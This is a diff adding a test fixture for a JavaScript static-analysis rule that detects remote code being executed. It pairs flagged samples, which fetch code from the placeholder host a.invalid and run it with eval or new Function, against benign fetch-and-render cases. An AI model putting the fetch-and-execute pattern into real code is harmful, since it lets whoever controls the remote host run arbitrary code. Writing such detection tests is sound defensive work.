@@ -1,0 +1,22 @@
+async function a() {
+  const code = await (await fetch("https://a.invalid/x.js")).text();
+  // ruleid: remote-code-answer-executed-js
+  eval(code);
+}
+function b() {
+  https.get("https://a.invalid/x", (res) => {
+    let body = "";
+    res.on("data", (c) => {
+      body += c;
+      // ruleid: remote-code-answer-executed-js
+      new Function("require", c)(require);
+    });
+  });
+}
+async function c() {
+  const data = await (await fetch("https://a.invalid/x.json")).json();
+  // ok: remote-code-answer-executed-js
+  render(data);
+  // ok: remote-code-answer-executed-js
+  const m = /x(y)/.exec(data.text);
+}
